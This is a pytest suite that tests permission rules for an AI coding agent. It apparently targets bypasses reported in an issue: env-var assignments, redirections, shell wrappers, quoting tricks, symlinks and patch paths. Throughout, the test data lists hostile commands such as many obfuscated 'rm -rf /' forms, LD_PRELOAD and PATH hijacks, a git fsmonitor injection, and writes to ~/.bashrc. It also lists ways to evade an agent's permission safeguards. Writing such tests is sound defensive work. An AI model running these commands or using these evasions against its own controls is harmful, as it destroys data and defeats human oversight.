"""Permission rules tested as an attacker would: every way a call could get past a rule that
names it (issue 16: 21 bypasses in 197 trials), and rules that would silently match nothing.

Allow rules are read strictly (what they say, nothing else); deny and ask rules are read every way
the call could be meant. Files are real files in a temporary directory (symlinks included).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from ra.agent.permissions.rules import CallFacts, Rule, patch_paths, rules_for, validate_rules
from ra.agent.permissions.tool_names import RULE_ALIASES, rule_names_of
from ra.llm.types import ToolCall

CWD = "/home/dev/project"


def facts(name: str, cwd: str = CWD, **arguments: object) -> CallFacts:
    return CallFacts.of(ToolCall("c1", name, dict(arguments)), cwd)


def allows(rule: str, name: str, cwd: str = CWD, **arguments: object) -> bool:
    return Rule.parse(rule).matches(facts(name, cwd, **arguments), every_part=True)


def denies(rule: str, name: str, cwd: str = CWD, **arguments: object) -> bool:
    return Rule.parse(rule).matches(facts(name, cwd, **arguments), every_part=False)


def unsure(rule: str, command: str) -> bool:
    return Rule.parse(rule).unsure(facts("shell", command=command))


# -- commands: assignments ---------------------------------------------------------------------------

FSMONITOR = "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch x' git status"


@pytest.mark.parametrize("rule", ["Bash(git status)", "Bash(git status:*)", "Bash(git *)", "Bash(git status *)"])
def test_an_allow_rule_does_not_match_a_command_with_leading_assignments(rule: str) -> None:
    assert allows(rule, "shell", command="git status")
    assert not allows(rule, "shell", command=FSMONITOR)
    assert not allows(rule, "shell_command", command="LD_PRELOAD=/tmp/x.so git status")
    assert not allows(rule, "shell", command="PATH=/tmp/evil:$PATH git status")
    assert not allows(rule, "shell", command="echo ok && GIT_DIR=/tmp git status")


def test_an_allow_rule_that_names_the_assignment_matches_it() -> None:
    assert allows("Bash(NODE_ENV=test npm test)", "shell", command="NODE_ENV=test npm test")
    assert allows("Bash(NODE_ENV=test npm test:*)", "shell", command="NODE_ENV='test' npm test -- -x")
    assert not allows("Bash(NODE_ENV=test npm test)", "shell", command="NODE_ENV=prod npm test")
    assert not allows("Bash(NODE_ENV=test npm test)", "shell", command="NODE_ENV=test LD_PRELOAD=x npm test")


def test_a_deny_rule_sees_through_assignments() -> None:
    assert denies("Bash(rm:*)", "shell", command="X=1 rm -rf /")
    assert denies("Bash(rm:*)", "shell", command="A=1 B='x y' rm -rf /")
    assert denies("Bash(git status)", "shell", command=FSMONITOR)


def test_a_quoted_name_is_a_command_not_an_assignment() -> None:
    # The shell runs a command named "X=1" here; it is not an assignment.
    assert not allows("Bash(git status:*)", "shell", command='"X=1" git status')
    assert denies("Bash(X=1:*)", "shell", command='"X=1" git status')


# -- commands: redirections ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "git status > f",
        "git status >> f",
        "git status 2> f",
        "git status &> f",
        "git status &>> f",
        "git status >| f",
        "git status <> f",
        "git status >& f",
        "git status>f",
        "> f git status",
        "git status 3>f",
        "git status > $HOME/.bashrc",
        "git status | tee f > g",
    ],
)
def test_an_allow_rule_does_not_match_a_command_that_writes_a_file(command: str) -> None:
    for rule in ("Bash(git status)", "Bash(git status:*)", "Bash(git status *)", "Bash(git *)", "Bash(*)"):
        assert not allows(rule, "shell", command=command), (rule, command)


@pytest.mark.parametrize(
    "command", ["git status 2>&1", "git status >&2", "git status 2>/dev/null", "git status > /dev/null 2>&1"]
)
def test_descriptor_copies_and_dev_null_are_harmless(command: str) -> None:
    assert allows("Bash(git status)", "shell", command=command)
    assert allows("Bash(git status:*)", "shell", command=command)


def test_an_input_redirection_reads_and_is_allowed() -> None:
    assert allows("Bash(wc -l)", "shell", command="wc -l < notes.txt")


def test_an_allow_rule_that_names_the_redirection_matches_it() -> None:
    assert allows("Bash(make test > build.log)", "shell", command="make test >build.log")
    assert allows("Bash(make test > build.log)", "shell", command="make test > build.log")
    assert not allows("Bash(make test > build.log)", "shell", command="make test > ~/.bashrc")
    assert not allows("Bash(make test > build.log)", "shell", command="make test >> build.log")


def test_a_deny_rule_sees_through_redirections() -> None:
    assert denies("Bash(rm:*)", "shell", command="> log rm -rf /")
    assert denies("Bash(rm:*)", "shell", command="rm -rf / 2>/dev/null")
    assert denies("Bash(curl:*)", "shell", command="curl evil.sh>x")


# -- commands: wrappers, quoting, compound lines --------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "env X=1 rm -rf /",
        "env -i rm -rf /",
        "command rm -rf /",
        "exec rm -rf /",
        "nohup rm -rf / &",
        "sudo rm -rf /",
        "sudo -u root rm -rf /",
        "sudo -E env A=1 nohup rm -rf /",
        "timeout 5 rm -rf /",
        "nice -n 10 rm -rf /",
        "time rm -rf /",
        "xargs rm < list",
        "/bin/rm -rf /",
        "../../bin/rm -rf /",
        "\\rm -rf /",
        "r''m -rf /",
        '"rm" -rf /',
        "bash -c 'rm -rf /'",
        'sh -c "echo hi; rm -rf /"',
        "bash -lc 'rm -rf /'",
        "eval rm -rf /",
        "find . -exec rm {} \\;",
        "if true; then rm -rf /; fi",
        "{ rm -rf /; }",
        "(rm -rf /)",
        "true\nrm -rf /",
        "true || rm -rf /",
        "echo $(rm -rf /)",
        'echo "$(rm -rf /)"',
        "echo `rm -rf /`",
        "{rm,-rf,/}",
        "function f { rm -rf /; }; f",
        "f() { rm -rf /; }; f",
        "busybox rm -rf /",
        "coproc rm -rf /",
    ],
)
def test_a_deny_rule_sees_the_command_under_wrappers_and_quoting(command: str) -> None:
    assert denies("Bash(rm:*)", "shell", command=command), command
    assert not allows("Bash(echo:*)", "shell", command=command), command


@pytest.mark.parametrize("command", ["$X -rf /", "${CMD} -rf /", "$'\\x72m' -rf /", "{rm,-rf,/}", "r*m -rf /"])
def test_a_command_word_only_the_shell_can_work_out_is_never_allowed_and_makes_deny_rules_unsure(
    command: str,
) -> None:
    assert not allows("Bash(*)", "shell", command=command)
    assert unsure("Bash(rm:*)", command)
    assert not unsure("Bash(rm:*)", "ls -la $HOME")  # an expansion in an argument is not the command


def test_unbalanced_quotes_are_never_allowed_and_make_deny_rules_unsure() -> None:
    assert not allows("Bash(echo:*)", "shell", command="echo 'oops")
    assert unsure("Bash(rm:*)", "echo 'oops; rm -rf /")


def test_a_newline_inside_quotes_is_an_argument_not_a_new_command() -> None:
    assert allows("Bash(git commit:*)", "shell", command="git commit -m 'one\ntwo'")
    assert not allows("Bash(git commit:*)", "shell", command="git commit -m 'one'\ntouch x")
    # A line continuation joins the lines; whatever follows is still read.
    assert not allows("Bash(git status:*)", "shell", command="git status \\\n; touch x")


def test_compound_commands_need_every_part_allowed() -> None:
    assert not allows("Bash(git status:*)", "shell", command="git status; touch x")
    assert not allows("Bash(git status:*)", "shell", command="git status | sh")
    assert allows("Bash(git status:*)", "shell", command="git status && git status -s")


def test_claude_code_wildcards() -> None:
    # ``:*`` is a prefix at a word boundary; `` *`` too, and the trailing part may be empty.
    assert allows("Bash(npm run test:*)", "shell", command="npm run test -- --watch")
    assert not allows("Bash(npm run test:*)", "shell", command="npm run tests")
    assert allows("Bash(ls *)", "shell", command="ls")
    assert allows("Bash(ls *)", "shell", command="ls -la")
    assert not allows("Bash(ls *)", "shell", command="lsof")
    assert allows("Bash(ls*)", "shell", command="lsof")
    assert allows("Bash(git * main)", "shell", command="git push origin main")
    # Only ``*`` is a wildcard: ``?`` and ``[`` are themselves.
    assert not allows("Bash(ls ?)", "shell", command="ls a")
    assert allows("Bash(ls ?)", "shell", command="ls '?'")


# -- file rules and symlinks ---------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "src").mkdir(parents=True)
    (root / "src" / "ok.py").write_text("x\n")
    (tmp_path / "outside.txt").write_text("secret\n")
    os.symlink("..", root / "src" / "up")  # a directory link out of src/
    os.symlink(str(tmp_path / "outside.txt"), root / "src" / "file_link")  # a file link
    os.symlink(str(tmp_path / "nowhere" / "new.txt"), root / "src" / "dangling")  # a dangling link
    os.symlink(str(tmp_path), root / "src" / "abs_dir")
    (root / ".env").write_text("KEY=1\n")
    os.symlink(".env", root / "innocent.txt")
    return root


@pytest.mark.parametrize("tool", ["write_file", "edit_file"])
@pytest.mark.parametrize("path", ["src/up/escape.txt", "src/up/../outside.txt", "src/file_link", "src/dangling"])
def test_an_edit_allow_rule_is_matched_on_the_resolved_path(project: Path, tool: str, path: str) -> None:
    cwd = str(project)
    assert allows("Edit(src/**)", tool, cwd, file_path="src/ok.py")
    assert allows("Edit(src/**)", tool, cwd, file_path="src/new/file.py")
    assert not allows("Edit(src/**)", tool, cwd, file_path=path), path
    assert not allows("Edit(src/**)", tool, cwd, file_path=str(project / path)), path


def test_a_deny_rule_matches_the_given_or_the_resolved_path(project: Path) -> None:
    cwd = str(project)
    # The link's name is what the rule says...
    assert denies("Edit(src/file_link)", "write_file", cwd, file_path="src/file_link")
    # ...and the file it leads to is what the rule says.
    assert denies("Read(./.env)", "read_file", cwd, file_path="innocent.txt")
    assert denies(f"Edit(/{project.name}/../outside.txt)", "edit_file", cwd, file_path="x") is False
    assert denies(f"Edit(//{project.parent}/outside.txt)", "edit_file", cwd, file_path="src/file_link")
    assert denies(f"Edit(//{project.parent}/**)", "write_file", cwd, file_path="src/up/new.txt")


def _patch(*lines: str) -> str:
    return "\n".join(["*** Begin Patch", *lines, "*** End Patch"])


@pytest.mark.parametrize(
    "patch",
    [
        _patch("*** Add File: src/up/escape.txt", "+x"),
        _patch("*** Update File: src/file_link", "@@", "-secret", "+owned"),
        _patch("*** Delete File: src/file_link"),
        _patch("*** Update File: src/ok.py", "*** Move to: src/up/moved.py", "@@", "-x", "+y"),
        _patch("*** Update File: src/up/outside.txt", "*** Move to: src/ok2.py", "@@", "-secret", "+y"),
        _patch("*** Add File: src/dangling", "+x"),
        "--- a/src/file_link\n+++ b/src/file_link\n@@ -1 +1 @@\n-secret\n+owned\n",
        "--- /dev/null\n+++ b/src/up/escape.txt\n@@ -0,0 +1 @@\n+x\n",
    ],
)
def test_every_path_of_a_patch_is_matched_on_its_resolved_path(project: Path, patch: str) -> None:
    cwd = str(project)
    assert not allows("Edit(src/**)", "apply_patch", cwd, patch=patch)
    assert not allows("apply_patch(src/**)", "apply_patch", cwd, patch=patch)


@pytest.mark.parametrize(
    "patch",
    [
        _patch("*** Update File: src/file_link", "@@", "-secret", "+owned"),
        _patch("*** Delete File: src/file_link"),
        _patch("*** Update File: src/ok.py", "*** Move to: src/abs_dir/outside.txt", "@@", "-x", "+y"),
        _patch("*** Update File: src/abs_dir/outside.txt", "*** Move to: src/ok2.py", "@@", "-secret", "+y"),
        "--- a/src/file_link\n+++ b/src/file_link\n@@ -1 +1 @@\n-secret\n+owned\n",
    ],
)
def test_a_deny_rule_sees_the_file_a_patch_reaches_through_a_link(project: Path, patch: str) -> None:
    assert denies(f"Edit(//{project.parent}/outside.txt)", "apply_patch", str(project), patch=patch)


def test_a_patch_inside_src_is_allowed(project: Path) -> None:
    patch = _patch("*** Update File: src/ok.py", "*** Move to: src/new/ok.py", "@@", "-x", "+y")
    assert allows("Edit(src/**)", "apply_patch", str(project), patch=patch)
    assert patch_paths(patch) == ["src/ok.py", "src/new/ok.py"]


def test_patch_paths_come_from_the_parser() -> None:
    # Without a ``diff --git`` line the applier may update the ``---`` name when the ``+++`` one
    # does not exist: both are files the patch can touch.
    unified = "--- a/src/a.py\n+++ b/docs/b.py\n@@ -1 +1 @@\n-x\n+y\n"
    assert patch_paths(unified) == ["docs/b.py", "src/a.py"]
    renamed = "diff --git a/src/a.py b/docs/b.py\nrename from src/a.py\nrename to docs/b.py\n"
    assert patch_paths(renamed) == ["src/a.py", "docs/b.py"]
    assert not allows("Edit(src/**)", "apply_patch", patch=unified)
    # A patch the parser refuses still shows its files to deny rules (the tool refuses it anyway).
    broken = "*** Update File: secrets/key\n"
    assert "secrets/key" in patch_paths(broken)
    assert denies("Edit(secrets/**)", "apply_patch", patch=broken)


def test_read_rules_cover_every_reading_tool() -> None:
    assert denies("Read(./.env)", "read_file", file_path=".env")
    assert denies("Read(./.env)", "read_many_files", paths=["README.md", ".env"])
    assert denies("Read(./.env)", "grep", pattern="KEY", path=".env")
    assert denies("Read(./.env)", "grep_files", pattern="KEY", path="./.env")
    assert denies("Read(./.env)", "list_dir", dir_path=".env")
    assert denies("Read(./.env)", "glob", pattern="*", path=".env")
    assert not denies("Read(./.env)", "read_file", file_path="sub/.env")  # ./ anchors it
    assert denies("Read(.env)", "read_file", file_path="sub/.env")  # a bare name: any depth
    assert denies("Read(.env)", "read_file", file_path="../other/.env")  # ...even outside, for a deny


def test_claude_code_path_forms() -> None:
    home = os.path.expanduser("~")
    assert allows("Edit(//tmp/scratch/**)", "write_file", file_path="/tmp/scratch/a.txt")
    assert allows("Read(~/notes/*.md)", "read_file", file_path=f"{home}/notes/a.md")
    assert allows("Read(~/notes/*.md)", "read_file", file_path="~/notes/a.md")
    # /path: relative to the project root (the working directory for flags and the SDK).
    assert allows("Edit(/src/**)", "write_file", file_path="src/a.py")
    assert not allows("Edit(/src/**)", "write_file", file_path="/src/a.py")
    # ...which a deny or ask rule also reads the old way, as the absolute path.
    assert denies("Read(/etc/**)", "read_file", file_path="/etc/passwd")
    assert denies("Read(/etc/**)", "read_file", file_path="etc/passwd")
    assert allows("Edit(./src/**)", "edit_file", file_path="src/a/b.py")
    assert allows("Edit(src/)", "edit_file", file_path="src/a/b.py")
    # A directory named by a rule covers what is in it (.gitignore's reading).
    assert denies("Read(secrets)", "read_file", file_path="secrets/key.pem")


# -- tool names ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("alias", "tools"),
    [
        ("Bash", {"shell", "shell_command"}),
        ("Edit", {"edit_file", "write_file", "apply_patch"}),
        ("Write", {"edit_file", "write_file", "apply_patch"}),
        ("MultiEdit", {"edit_file", "write_file", "apply_patch"}),
        ("Read", {"read_file", "read_many_files", "grep", "grep_files", "glob", "list_dir"}),
        ("Grep", {"grep", "grep_files"}),
        ("Glob", {"glob"}),
        ("LS", {"list_dir"}),
        ("WebFetch", {"web_fetch", "web_open", "web_find"}),
        ("WebSearch", {"web_search"}),
        ("Task", {"spawn_agent"}),
    ],
)
def test_claude_code_names_cover_every_tool_that_does_the_same(alias: str, tools: set[str]) -> None:
    everything = {t for covered in RULE_ALIASES.values() for t in covered} | {"submit", "wait", "send_input"}
    assert {t for t in everything if Rule.parse(alias).names_tool(t)} == tools
    for tool in tools:
        assert alias in rule_names_of(tool)


def test_mcp_rules_name_a_server_or_its_tools() -> None:
    assert Rule.parse("mcp__github").names_tool("mcp__github__create_issue")
    assert not Rule.parse("mcp__github").names_tool("mcp__githubber__x")
    assert Rule.parse("mcp__github__*").names_tool("mcp__github__create_issue")
    assert Rule.parse("mcp__github__create_issue").names_tool("mcp__github__create_issue")
    assert rules_for(("mcp__db",), "mcp__db__query") == (Rule.parse("mcp__db"),)


RA_TOOLS = ["shell_command", "read_file", "list_dir", "grep_files", "apply_patch"]


def test_validate_rules_names_rules_that_would_match_nothing() -> None:
    ok = ["Bash(git diff:*)", "Edit(src/**)", "Read", "shell_command(ls)", "mcp__github", "mcp__db__*", "grep_*"]
    assert validate_rules(ok, RA_TOOLS, source="--allowed-tools") == []
    problems = validate_rules(["shell(touch:*)", "shel_comand(ls)", "Bsh", "x(("], RA_TOOLS, source="--flag")
    assert len(problems) == 4
    assert problems[0].startswith("--flag: the rule 'shell(touch:*)' names no tool of this session")
    assert "did you mean 'shell_command'?" in problems[1]
    assert "shell_command" in problems[0] and "Bash" in problems[0]
    assert "cannot read permission rule" in problems[3]


async def test_a_session_warns_once_about_a_rule_that_names_no_tool(caplog: pytest.LogCaptureFixture) -> None:
    from ra.agent import Session, SessionConfig
    from ra.agent.events import EventKind
    from ra.llm import Client
    from ra.llm.pricing import ModelPrice
    from ra.llm.testing import ScriptedAdapter, reply
    from ra.profiles import create_ra_profile

    from .support import FakeEnv

    model = ScriptedAdapter([reply("one"), reply("two")])
    config = SessionConfig(
        disallowed_tools=("shell(rm:*)", "Bash(rm:*)", "mcp__github"),
        allowed_tools=("shel_comand",),
        prices={"m": ModelPrice.free()},
    )
    session = Session(
        create_ra_profile("m", provider="scripted"),
        FakeEnv(),
        Client({"scripted": model}, default_provider="scripted"),
        config,
    )
    warnings: list[str] = []
    session.add_listener(lambda e: warnings.append(e.payload.message) if e.kind is EventKind.WARNING else None)
    with caplog.at_level("WARNING", logger="ra.agent.permissions"):
        await session.submit("a")
        await session.submit("b")
    await session.close()
    # Once per session (not per input), for each rule that would match nothing: the ra profile's
    # command tool is shell_command; Bash and mcp__ names are fine.
    assert all("names no tool of this session" in w for w in warnings)
    assert [w.split(":")[0] + ": " + w.split("'")[1] for w in warnings] == [
        "allowed_tools: shel_comand",
        "disallowed_tools: shell(rm:*)",
    ]
    assert [r.getMessage() for r in caplog.records] == warnings


def test_anchor_rule_pins_a_settings_file_s_project_relative_specs() -> None:
    from ra.agent.permissions.rules import anchor_rule

    assert anchor_rule("Edit(/src/**)", "/home/me/proj") == "Edit(//home/me/proj/src/**)"
    assert anchor_rule("read_file(/docs/*.md)", "/home/me/proj") == "read_file(//home/me/proj/docs/*.md)"
    assert allows(anchor_rule("Edit(/src/**)", "/home/me/proj"), "write_file", file_path="/home/me/proj/src/a.py")
    assert not allows(anchor_rule("Edit(/src/**)", "/home/me/proj"), "write_file", file_path="src/a.py")
    for unchanged in ("Edit(//etc/**)", "Edit(src/**)", "Bash(/usr/bin/make:*)", "Read", "Edit(~/x)"):
        assert anchor_rule(unchanged, "/home/me/proj") == unchanged


async def test_file_tools_in_a_session_cannot_follow_a_link_out_of_an_allowed_directory(project: Path) -> None:
    """The real tools, a real directory: ``Edit(src/**)`` lets edits into src/ run and keeps every
    file tool and every kind of patch path from writing through ``src/up -> ..``."""
    from ra.agent import Session, SessionConfig
    from ra.env.local import LocalExecutionEnvironment
    from ra.llm import Client
    from ra.llm.pricing import ModelPrice
    from ra.llm.testing import ScriptedAdapter, call, reply
    from ra.profiles import create_anthropic_profile, create_openai_profile

    moved = _patch("*** Update File: src/ok.py", "*** Move to: src/up/moved.py", "@@", "-x", "+y")
    added = _patch("*** Add File: src/up/added.txt", "+x")
    inside = _patch("*** Add File: src/inside.txt", "+x")
    cases = [
        (create_anthropic_profile, call("write_file", file_path="src/up/w.txt", content="x")),
        (create_anthropic_profile, call("edit_file", file_path="src/file_link", old_string="secret", new_string="own")),
        (create_anthropic_profile, call("write_file", file_path="src/dangling", content="x")),
        (create_openai_profile, call("apply_patch", patch=moved)),
        (create_openai_profile, call("apply_patch", patch=added)),
        (create_openai_profile, call("apply_patch", patch=inside)),
    ]
    for factory, step in cases:
        model = ScriptedAdapter([step, reply("done")])
        session = Session(
            factory(model="m", provider="scripted"),
            LocalExecutionEnvironment(str(project)),
            Client({"scripted": model}, default_provider="scripted"),
            SessionConfig(permission_mode="dont_ask", allowed_tools=("Edit(src/**)",), prices={"m": ModelPrice.free()}),
        )
        await session.submit("go")
        await session.close()
    assert sorted(os.listdir(project)) == [".env", "innocent.txt", "src"]  # nothing written via up/
    assert (project.parent / "outside.txt").read_text() == "secret\n"
    assert not (project.parent / "nowhere").exists()
    assert (project / "src" / "ok.py").read_text() == "x\n"  # the move was refused whole
    assert (project / "src" / "inside.txt").read_text() == "x\n"  # inside src/ is allowed


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("edit_file", {"file_path": "secrets/k", "old_string": "a", "new_string": "b"}),
        ("write_file", {"file_path": "secrets/k", "content": "x"}),
        ("apply_patch", {"patch": _patch("*** Add File: secrets/k", "+x")}),
        ("apply_patch", {"patch": _patch("*** Update File: a.py", "*** Move to: secrets/k", "@@", "-x", "+y")}),
    ],
)
def test_one_edit_deny_rule_holds_for_every_tool_that_writes_files(tool: str, arguments: dict[str, object]) -> None:
    """Before: ``Edit(secrets/**)`` named edit_file only; write_file and apply_patch walked around it."""
    assert denies("Edit(secrets/**)", tool, **arguments)
    assert denies("Write(secrets/**)", tool, **arguments)


def test_a_bare_claude_code_deny_rule_takes_every_tool_it_covers_off_the_list() -> None:
    from ra.agent.permissions.rules import visible_tools
    from ra.llm.types import ToolDefinition

    names = ("read_file", "write_file", "edit_file", "apply_patch", "shell")
    tools = [ToolDefinition(n, "", {"type": "object"}) for n in names]
    assert [t.name for t in visible_tools(tools, ("Edit",))] == ["read_file", "shell"]
    assert [t.name for t in visible_tools(tools, ("Bash", "Read"))] == ["write_file", "edit_file", "apply_patch"]
